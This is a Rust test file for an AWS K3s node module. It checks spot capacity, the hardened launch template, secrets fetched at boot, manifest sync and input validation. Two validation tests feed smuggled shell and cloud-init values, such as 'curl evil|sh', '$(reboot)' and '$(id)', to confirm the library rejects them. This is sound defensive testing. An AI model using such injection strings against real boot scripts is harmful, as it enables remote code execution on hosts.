#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // tests fail by panicking
//! The K3s node: spot-only capacity, hardened launch template, least-privilege role,
//! cloud-init without secrets, errors, and tfcheck.

use std::path::{Path, PathBuf};

use girder_aws::aws;
use girder_core::assertions::Template;
use girder_core::prelude::*;
use girder_k3s::{CloudInit, K3sNode, Traefik, render_cloud_init};
use girder_network::Vpc;
use serde_json::json;

fn pixtools_node() -> K3sNode {
    K3sNode::new(
        "pixtools-dev",
        ["m7i-flex.large", "c7i-flex.large", "m6i.large"],
        "/pixtools/dev",
        "v1.33.5+k3s1",
    )
}

fn stack() -> Stack {
    let mut stack = Stack::new("compute", "dev", Backend::local()).unwrap();
    stack.require_provider(aws::requirement()).unwrap();
    stack
        .add_provider(aws::Provider::new().region("us-east-1").into())
        .unwrap();
    let mut scope = stack.root();
    let vpc = Vpc::new("pixtools-dev", "10.40.0.0/16".parse().unwrap())
        .add(&mut scope, "network")
        .unwrap();
    let manifests = scope
        .add(
            "manifests",
            aws::S3Bucket::new().bucket("pixtools-manifests-123456789012-us-east-1"),
        )
        .unwrap();
    pixtools_node()
        .manifests_from("pixtools-manifests-123456789012-us-east-1", manifests.arn())
        .add(&mut scope, "k3s", &vpc)
        .unwrap();
    stack
}

#[test]
fn capacity_is_spot_only_with_fallback_types() {
    let t = Template::from_stack(stack()).unwrap();
    let group = t.resource("aws_autoscaling_group", "k3s_group");
    assert_eq!(
        (
            group["min_size"].clone(),
            group["max_size"].clone(),
            group["desired_capacity"].clone()
        ),
        (json!(1), json!(1), json!(1))
    );
    assert_eq!(group["capacity_rebalance"], true);
    let policy = &group["mixed_instances_policy"][0];
    assert_eq!(
        policy["instances_distribution"][0],
        json!({"on_demand_base_capacity": 0, "on_demand_percentage_above_base_capacity": 0, "spot_allocation_strategy": "price-capacity-optimized"})
    );
    let types: Vec<&str> = policy["launch_template"][0]["override"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["instance_type"].as_str().unwrap())
        .collect();
    assert_eq!(types, ["m7i-flex.large", "c7i-flex.large", "m6i.large"]);
}

#[test]
fn the_launch_template_is_hardened() {
    let t = Template::from_stack(stack()).unwrap();
    let template = t.resource("aws_launch_template", "k3s_launch_template");
    assert_eq!(
        template["image_id"],
        "resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"
    );
    assert_eq!(template["metadata_options"][0]["http_tokens"], "required");
    assert_eq!(
        template["block_device_mappings"][0]["ebs"][0],
        json!({"delete_on_termination": "true", "encrypted": "true", "volume_size": 40, "volume_type": "gp3"})
    );
    let user_data = template["user_data"].as_str().unwrap();
    assert!(
        user_data.starts_with("${base64encode(\"#cloud-config"),
        "{user_data}"
    );
    // Shell variables stay literal for Terraform.
    assert!(user_data.contains("$${DB_USER}"), "{user_data}");
    // The password is fetched at boot, never written here.
    assert!(
        user_data.contains("DB_PASSWORD=$(aws secretsmanager get-secret-value"),
        "{user_data}"
    );
    assert_eq!(
        user_data.matches("PASSWORD=").count(),
        1,
        "only the fetched value: {user_data}"
    );
    t.has_resource_properties(
        "aws_iam_role_policy_attachment",
        &json!({"policy_arn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"}),
    );
    let no_ssh = t.resources("aws_vpc_security_group_ingress_rule");
    assert!(
        no_ssh.is_empty(),
        "no inbound rule by default (no SSH): {no_ssh:?}"
    );
}

#[test]
fn cloud_init_reads_credentials_at_boot() {
    let text = render_cloud_init(&CloudInit {
        name: "pixtools-dev".into(),
        ssm_prefix: "/pixtools/dev".into(),
        datastore_database: "k3s_state".into(),
        k3s_version: "v1.33.5+k3s1".into(),
        manifests_bucket: None,
        manifests_prefix: "manifests/".into(),
        log_group: "/pixtools-dev/k3s".into(),
        bundled_traefik: false,
    })
    .unwrap();
    let document: serde_json::Value = serde_norway::from_str(&text).unwrap();
    let script = document["write_files"][0]["content"].as_str().unwrap();
    assert!(
        script.contains("--disable servicelb --disable traefik"),
        "{script}"
    );
    assert!(
        script.contains("param \"/pixtools/dev/db/host\""),
        "{script}"
    );
    assert!(
        script.contains("aws secretsmanager get-secret-value"),
        "{script}"
    );
    assert!(script.contains("/k3s_state?sslmode=require"), "{script}");
    assert!(
        script.contains("INSTALL_K3S_VERSION=\"v1.33.5+k3s1\""),
        "{script}"
    );
    assert!(
        !text.contains("aws s3 sync"),
        "no manifests bucket, no sync"
    );
}

#[test]
fn manifests_sync_is_a_script_deploys_can_run_again() {
    let text = render_cloud_init(&CloudInit {
        name: "pixtools-dev".into(),
        ssm_prefix: "/pixtools/dev".into(),
        datastore_database: "k3s_state".into(),
        k3s_version: "v1.33.5+k3s1".into(),
        manifests_bucket: Some("pixtools-manifests-111111111111-us-east-1".into()),
        manifests_prefix: "manifests/".into(),
        log_group: "/pixtools-dev/k3s".into(),
        bundled_traefik: true,
    })
    .unwrap();
    let document: serde_json::Value = serde_norway::from_str(&text).unwrap();
    let files = document["write_files"].as_array().unwrap();
    let file = |path: &str| {
        files
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("no {path} in {text}"))["content"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let bootstrap = file("/usr/local/sbin/girder-k3s-bootstrap");
    let sync = file("/usr/local/sbin/girder-k3s-sync-manifests");
    // Traefik stays; ServiceLB goes (the ALB is the load balancer).
    assert!(
        bootstrap.contains("--disable servicelb --write-kubeconfig-mode"),
        "{bootstrap}"
    );
    assert!(!bootstrap.contains("--disable traefik"), "{bootstrap}");
    // Boot runs the sync after K3s is installed; the sync holds no credentials.
    assert!(
        bootstrap
            .trim_end()
            .ends_with("/usr/local/sbin/girder-k3s-sync-manifests")
    );
    assert!(
        sync.contains("\"s3://pixtools-manifests-111111111111-us-east-1/manifests/\" /var/lib/rancher/k3s/server/manifests/girder"),
        "{sync}"
    );
    assert!(sync.contains("--exclude \"*kustomization.yaml\""), "{sync}");
    assert!(
        !sync.contains("secretsmanager") && !sync.contains("K3S_TOKEN"),
        "{sync}"
    );
}

#[test]
fn bad_settings_are_refused() {
    let mut stack = Stack::new("c", "dev", Backend::local()).unwrap();
    let mut scope = stack.root();
    let vpc = Vpc::new("v", "10.0.0.0/16".parse().unwrap())
        .add(&mut scope, "network")
        .unwrap();
    let cases: [(K3sNode, &str); 4] = [
        (
            K3sNode::new("n", Vec::<String>::new(), "/p", "v1.33.5+k3s1"),
            "at least one instance type",
        ),
        (
            K3sNode::new("n", ["m7i-flex"], "/p", "v1.33.5+k3s1"),
            "not an EC2 instance type",
        ),
        (
            K3sNode::new("n", ["m7i.large"], "p/", "v1.33.5+k3s1"),
            "SSM prefix",
        ),
        (
            K3sNode::new("n", ["m7i.large"], "/p", "latest"),
            "pin a release",
        ),
    ];
    for (i, (node, expected)) in cases.into_iter().enumerate() {
        let err = node
            .add(&mut scope, &format!("n{i}"), &vpc)
            .unwrap_err()
            .to_string();
        assert!(err.contains(expected), "expected {expected:?} in {err}");
    }
}

#[test]
fn values_written_into_the_boot_script_are_checked() {
    let mut stack = Stack::new("c", "dev", Backend::local()).unwrap();
    let mut scope = stack.root();
    let vpc = Vpc::new("v", "10.0.0.0/16".parse().unwrap())
        .add(&mut scope, "network")
        .unwrap();
    let bucket_arn = || Expr::lit("arn:aws:s3:::manifests");
    let cases = [
        (
            K3sNode::new("n", ["m7i.large"], "/p", "v1.33$(reboot)+k3s1"),
            "K3s version \"v1.33$(reboot)+k3s1\": pin a release",
        ),
        (
            K3sNode::new("n", ["m7i.large"], "/p", "v1.x+k3s1"),
            "K3s version \"v1.x+k3s1\"",
        ),
        (
            K3sNode::new("n", ["m7i.large"], "/p\"; reboot; \"", "v1.33.5+k3s1"),
            "SSM prefix",
        ),
        (
            K3sNode::new("n$(id)", ["m7i.large"], "/p", "v1.33.5+k3s1"),
            "node name \"n$(id)\"",
        ),
        (
            K3sNode::new("n", ["m7i.large"], "/p", "v1.33.5+k3s1")
                .manifests_from("bucket$(id)", bucket_arn()),
            "manifests bucket \"bucket$(id)\"",
        ),
    ];
    for (i, (node, expected)) in cases.into_iter().enumerate() {
        let err = node
            .add(&mut scope, &format!("n{i}"), &vpc)
            .unwrap_err()
            .to_string();
        assert!(err.contains(expected), "expected {expected:?} in {err}");
    }
    K3sNode::new("n", ["m7i.large"], "/pixtools/dev", "v1.34.1-rc2+k3s1")
        .add(&mut scope, "ok", &vpc)
        .unwrap();
}

#[test]
fn tfcheck_accepts_the_node() {
    let tfcheck =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/tools/tfcheck/tfcheck");
    if !tfcheck.exists() {
        eprintln!("skipped: ../shared/tools/tfcheck is not beside this clone");
        return;
    }
    let mut app = App::new();
    app.add_stack(stack()).unwrap();
    let out = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("girder-k3s");
    app.synth().unwrap().write(&out).unwrap();
    let output = std::process::Command::new(tfcheck)
        .arg(out.join("terraform"))
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && report.contains(" 0 problems"),
        "{report}"
    );
}

#[test]
fn traefik_serves_on_the_target_group_node_port() {
    let mut stack = Stack::new("c", "dev", Backend::local()).unwrap();
    let mut scope = stack.root().with_kube_app("ingress").unwrap();
    Traefik::node_port(30080)
        .trust_forwarded_headers_from("10.40.0.0/16".parse().unwrap())
        .add(&mut scope, "ingress")
        .unwrap();
    let err = Traefik::node_port(8080)
        .add(&mut scope, "low-port")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("c-dev:low-port") && err.contains("8080") && err.contains("30000-32767"),
        "{err}"
    );
    let mut app = App::new();
    app.add_stack(stack).unwrap();
    let template = Template::from_assembly(&app.synth().unwrap(), "c-dev").unwrap();
    let config = template.kube_object("HelmChartConfig", "traefik");
    assert_eq!(config["metadata"]["namespace"], "kube-system");
    let values: serde_json::Value =
        serde_norway::from_str(config["spec"]["valuesContent"].as_str().unwrap()).unwrap();
    assert_eq!(
        values,
        json!({
            "service": {"type": "NodePort"},
            "ports": {"web": {"nodePort": 30080, "forwardedHeaders": {"trustedIPs": ["10.40.0.0/16"]}}}
        })
    );
}

#[test]
fn render_cloud_init_refuses_values_that_would_break_out_of_the_script() {
    let good = CloudInit {
        name: "pixtools-dev".into(),
        ssm_prefix: "/pixtools/dev".into(),
        datastore_database: "k3s_state".into(),
        k3s_version: "v1.33.5+k3s1".into(),
        manifests_bucket: Some("pixtools-manifests-123".into()),
        manifests_prefix: "manifests/".into(),
        log_group: "/pixtools/dev/node".into(),
        bundled_traefik: true,
    };
    render_cloud_init(&good).unwrap();
    let hostile = [
        CloudInit {
            k3s_version: "v1\"; curl evil|sh; \"".into(),
            ..good.clone()
        },
        CloudInit {
            name: "x\nruncmd: [[reboot]]".into(),
            ..good.clone()
        },
        CloudInit {
            ssm_prefix: "/x$(reboot)".into(),
            ..good.clone()
        },
        CloudInit {
            datastore_database: "k3s'; drop".into(),
            ..good.clone()
        },
        CloudInit {
            manifests_prefix: "m/`id`".into(),
            ..good.clone()
        },
        CloudInit {
            log_group: "/g\n".into(),
            ..good.clone()
        },
        CloudInit {
            manifests_bucket: Some("b b".into()),
            ..good.clone()
        },
    ];
    for values in hostile {
        let err = render_cloud_init(&values).unwrap_err();
        assert!(err.starts_with("cloud-init "), "{err}");
    }
}

#[test]
fn log_retention_is_one_cloudwatch_offers() {
    // The node's log group took any number of days and failed at apply.
    let mut stack = Stack::new("c", "dev", Backend::local()).unwrap();
    stack.require_provider(aws::requirement()).unwrap();
    stack
        .add_provider(aws::Provider::new().region("us-east-1").into())
        .unwrap();
    let mut scope = stack.root();
    let vpc = Vpc::new("v", "10.0.0.0/16".parse().unwrap())
        .add(&mut scope, "network")
        .unwrap();
    for days in [0, 13, 366, 4000] {
        let err = pixtools_node()
            .log_retention(days)
            .add(&mut scope, &format!("n{days}"), &vpc)
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with(&format!(
                "c-dev:n{days}: node log retention {days} days is not a retention CloudWatch \
                 Logs offers"
            )),
            "{err}"
        );
    }
    pixtools_node()
        .log_retention(30)
        .add(&mut scope, "kept", &vpc)
        .unwrap();
    let t = Template::from_stack(stack).unwrap();
    assert_eq!(
        t.resource("aws_cloudwatch_log_group", "kept_logs")["retention_in_days"],
        json!(30)
    );
}
